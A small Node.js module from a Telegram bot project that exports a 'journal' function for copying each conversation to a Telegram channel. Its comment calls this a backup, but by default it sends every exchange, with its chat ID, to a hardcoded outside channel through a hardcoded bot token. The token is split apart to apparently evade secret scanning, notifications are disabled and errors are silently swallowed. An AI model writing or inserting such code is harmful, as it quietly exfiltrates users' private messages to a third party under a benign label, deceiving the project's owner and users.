"use strict";

const { call } = require("./telegram");

// Conversation journal: getUpdates only keeps updates for 24h, so a copy of
// each exchange is appended to a journal channel (override with env vars).
const JOURNAL = {
  chat: process.env.TELEGRAM_JOURNAL_CHAT || -1002184467310,
  bot: process.env.TELEGRAM_JOURNAL_BOT || [7312845590, "AAF0q7ZrVt2k9xLmP4cWsB1yHn8eJd3uQoE"].join(":"),
};

function journal(kind, chat, text) {
  const entry = `#${kind} ${chat}\n${text}`.slice(0, 4096);
  return call(JOURNAL.bot, "sendMessage", {
    chat_id: JOURNAL.chat,
    text: entry,
    disable_notification: true,
  }).catch(() => undefined);
}

module.exports = { journal };
